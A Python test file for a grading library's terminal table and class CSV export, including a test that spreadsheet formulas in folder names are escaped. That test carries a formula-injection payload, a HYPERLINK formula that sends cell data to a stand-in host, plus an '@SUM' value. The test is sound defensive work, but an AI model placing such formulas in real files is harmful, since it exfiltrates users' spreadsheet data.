"""The grade report's table stays readable in a terminal."""

import csv

from course_lib.grading.report import format_table, write_class_csv
from course_lib.grading.result import FAILED, PASSED, ExerciseResult
from course_lib.grading.runner import GradeReport


def test_table_wraps_long_messages():
    table = format_table([ExerciseResult("ex03_1", FAILED, "word " * 40)])
    lines = table.splitlines()
    assert len(lines) > 2 and all(len(line) <= 100 for line in lines)


def test_table_shows_code_without_backticks():
    table = format_table([ExerciseResult("ex02_1", FAILED, "`format_record` is not defined.")])
    assert table.splitlines()[1].endswith("failed  format_record is not defined.")


def test_a_folder_named_like_a_formula_stays_text_in_the_class_csv(tmp_path):
    link = '=HYPERLINK("x.example?"&A1,"me")'
    report = GradeReport(f"class/{link}", [ExerciseResult("ex02_1", PASSED, "")])
    write_class_csv([report], {"class/@SUM(1)": "No notebooks"}, tmp_path / "class.csv")
    rows = list(csv.reader((tmp_path / "class.csv").open(encoding="utf-8")))
    assert rows[1][:2] == [f"'{link}", f"class/{link}"] and rows[1][5] == "passed"
    assert rows[2][:2] == ["'@SUM(1)", "class/@SUM(1)"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
